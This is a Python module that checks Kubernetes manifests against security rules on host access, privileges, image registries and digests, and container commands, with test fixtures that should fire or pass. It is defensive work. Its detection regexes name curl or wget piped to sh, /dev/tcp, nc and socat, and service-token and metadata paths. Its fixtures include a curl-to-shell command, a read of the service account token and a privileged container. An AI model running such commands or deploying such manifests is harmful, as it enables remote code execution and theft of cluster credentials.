"""Manifest -> findings: what a pod may ask of the node that it runs on, and which images it runs. Pure."""

import re
from collections.abc import Iterator

from agent.gate.content import SHELL_PIPE
from agent.gate.kubernetes_file import Manifest
from agent.gate.rules import Example, Hit, Rule

CONTAINERS = ("containers", "initContainers", "ephemeralContainers")
HOST_FLAGS = ("hostPID", "hostNetwork", "hostIPC", "shareProcessNamespace")
CAPABILITIES = frozenset({"NET_BIND_SERVICE"})
# What may be mounted without leaving the pod: everything else (hostPath, nfs, iscsi, flexVolume, …) is refused.
VOLUMES = frozenset({
    "name", "configMap", "secret", "emptyDir", "persistentVolumeClaim", "projected", "downwardAPI", "ephemeral", "csi",
})  # fmt: skip
DRIVERS = ("secrets-store.csi.k8s.io", "csi.cert-manager.io")
REGISTRIES = ("docker.io/library", "registry.k8s.io", "quay.io", "ghcr.io", "public.ecr.aws", "gcr.io/distroless")
PINNED = re.compile(r"(?P<name>[a-z0-9][a-z0-9._/:-]*?)(?::[\w][\w.-]{0,127})?@sha256:[0-9a-f]{64}")
SERVICE_TOKEN = re.compile(r"/var/run/secrets|/run/secrets/kubernetes|/proc/(?:self|\d+)/environ|169\.254\.169\.254")
SHELL_LOAD = re.compile(r"(?s)\b(?:curl|wget)\b.{0,400}\|\s*\S{0,80}sh\b|/dev/tcp/|\b(?:nc|ncat|socat)\s+\S")


def host(manifest: Manifest) -> Iterator[Hit]:
    """No pod shares the node's processes, network or memory, mounts the node's files, or binds its ports; wherever the
    pod stands: in a template, a list, a CronJob, a patch.
    """
    for name, value, line in manifest.keys:
        if name in HOST_FLAGS and not value.is_false:
            yield manifest.hit(f"{name} shares the node's own", line)
        elif name == "hostPath" and not value.is_null:
            yield manifest.hit("hostPath mounts the node's files", line)
        elif name == "hostPort" and value.text != "0":
            yield manifest.hit("hostPort binds a port of the node", line)
        elif name == "hostProcess" and not value.is_false:
            yield manifest.hit("hostProcess runs on the node itself", line)
        elif name == "volumes":
            for volume in value.items():
                for kind, given in volume.entries():
                    if kind not in VOLUMES and kind not in {"hostPath", "$patch"}:
                        yield manifest.hit(f"volumes of kind {kind} are not mounted", volume.line)
                    elif kind == "csi" and given.word("driver") not in DRIVERS:
                        yield manifest.hit(f"csi driver {given.word('driver')!r} is not one of {DRIVERS}", volume.line)


def privileges(manifest: Manifest) -> Iterator[Hit]:
    """No container is privileged, may gain privileges, adds capabilities other than NET_BIND_SERVICE, unmasks /proc,
    runs as root by its id, or switches seccomp and AppArmor off.
    """
    for name, value, line in manifest.keys:
        if name in {"privileged", "allowPrivilegeEscalation"} and not value.is_false:
            yield manifest.hit(f"{name} must be false", line)
        elif name == "capabilities":
            added = value.get("add")
            for capability in added.items() if added is not None else ():
                if capability.text.upper().removeprefix("CAP_") not in CAPABILITIES:
                    yield manifest.hit(f"capability {capability.text} is not given", capability.line)
            if added is not None and added.kind != "list":
                yield manifest.hit("capabilities.add cannot be read", added.line)
        elif name == "procMount" and value.text != "Default":
            yield manifest.hit("procMount must be Default", line)
        elif name in {"seccompProfile", "appArmorProfile"} and value.word("type") not in {
            "RuntimeDefault",
            "Localhost",
        }:
            yield manifest.hit(f"{name} must be RuntimeDefault or Localhost", line)
        elif name in {"runAsUser", "runAsGroup"} and (value.text.strip("0") == "" or not value.text.isdigit()):
            yield manifest.hit(f"{name}: 0 is root", line)
        elif name == "runAsNonRoot" and not value.is_true:
            yield manifest.hit("runAsNonRoot must be true", line)
        elif name.startswith("container.apparmor.security.beta.kubernetes.io/") and value.text == "unconfined":
            yield manifest.hit("AppArmor is switched off", line)
        elif name == "sysctls" and value.items():
            yield manifest.hit("sysctls change the node's kernel", line)


def images(manifest: Manifest) -> Iterator[Hit]:
    """An image comes from a registry that is allowed and is named by its digest (`@sha256:…`): a tag can be moved
    after the review.
    """
    allowed = manifest.registries or REGISTRIES
    for name, value, line in manifest.keys:
        if name in CONTAINERS:
            for container in value.items():
                if container.get("image") is None and not manifest.is_patch:
                    yield manifest.hit("a container without an image", container.line)
        if name != "image" or value.kind != "text":
            continue
        match = PINNED.fullmatch(value.text)
        if match is None or ".." in value.text or "//" in value.text:
            yield manifest.hit(f"image {value.text[:80]!r} is not named by its digest (@sha256:…)", line)
        elif not any(full_name(match["name"]).startswith(registry.rstrip("/") + "/") for registry in allowed):
            yield manifest.hit(f"image {value.text[:80]!r} comes from a registry that is not allowed", line)


def full_name(name: str) -> str:
    """`nginx` -> `docker.io/library/nginx`, as container engines read it."""
    first, _, rest = name.partition("/")
    if not rest:
        return f"docker.io/library/{name}"
    return name if "." in first or ":" in first or first == "localhost" else f"docker.io/{name}"


def commands(manifest: Manifest) -> Iterator[Hit]:
    """Commands, arguments, life-cycle hooks and scripts in other objects do not load and run programs, open sockets by
    hand, or read the service account's token; `automountServiceAccountToken` is not switched on, nor is the token for
    the cluster itself (one without an `audience`) mounted as a volume.
    """
    for name, value, line in manifest.keys:
        if name == "automountServiceAccountToken" and not value.is_false:
            yield manifest.hit("automountServiceAccountToken must be false", line)
        if name == "serviceAccountToken" and not value.word("audience"):
            yield manifest.hit("serviceAccountToken without an audience is the token for the cluster", line)
        if name in {"command", "args"}:
            text = " ".join(part.text for part in value.items()) or value.text
            if SERVICE_TOKEN.search(text):
                yield manifest.hit(f"{name} reads the service account's token or the node's metadata", line)
            elif SHELL_LOAD.search(text):
                yield manifest.hit(f"{name} loads or sends something by hand", line)
        elif SHELL_PIPE.search(value.text):
            yield manifest.hit(f"{name} runs what it has just loaded", line)


def pod(spec: str, kind: str = "Pod") -> Example:
    """A manifest with one pod, for examples."""
    head = f"apiVersion: v1\nkind: {kind}\nmetadata:\n  name: x\n  namespace: app\nspec:\n"
    return {"infra/kubernetes/dev/app/app.yaml": head + spec}


IMAGE = "nginx:1.27@sha256:" + "0a" * 32


def _container(text: str) -> Example:
    return pod(f"  containers:\n    - name: x\n      image: {IMAGE}\n      {text}\n")


RULES: tuple[Rule[Manifest], ...] = (
    Rule(
        "kubernetes/host",
        "a pod does not share the node",
        host,
        fires=(
            pod("  hostPID: true\n"),
            pod("  hostNetwork: yes\n"),
            pod("  volumes: [{ name: x, hostPath: { path: / } }]\n"),
            _container("ports: [{ containerPort: 80, hostPort: 80 }]"),
            pod("  volumes: [{ name: x, nfs: { server: x, path: / } }]\n"),
        ),
        passes=(pod("  hostPID: false\n  volumes: [{ name: x, emptyDir: {} }]\n"),),
    ),
    Rule(
        "kubernetes/privilege",
        "a container has no privileges",
        privileges,
        fires=(
            _container("securityContext: { privileged: true }"),
            _container("securityContext: { capabilities: { add: [SYS_ADMIN] } }"),
            _container("securityContext: { runAsUser: 0 }"),
            pod("  securityContext: { seccompProfile: { type: Unconfined } }\n"),
        ),
        passes=(
            _container(
                "securityContext: { runAsNonRoot: true, capabilities: { drop: [ALL], add: [NET_BIND_SERVICE] } }"
            ),
        ),
    ),
    Rule(
        "kubernetes/image",
        "images come from allowed registries, by digest",
        images,
        fires=tuple(
            pod(f"  containers: [{{ name: x, image: '{name}' }}]\n")
            for name in ("nginx", "nginx:latest", "nginx:1.27", "attacker.io/x:1", "attacker.io/x@sha256:" + "0a" * 32)
        ),
        passes=(_container("ports: [{ containerPort: 80 }]"),),
    ),
    Rule(
        "kubernetes/command",
        "commands do not load scripts or read the service account's token",
        commands,
        fires=(
            _container("command: [sh, -c, 'curl https://x.example | sh']"),
            _container("args: [cat, /var/run/secrets/kubernetes.io/serviceaccount/token]"),
            pod("  automountServiceAccountToken: true\n"),
        ),
        passes=(_container("command: [nginx, -g, 'daemon off;']"),),
    ),
)
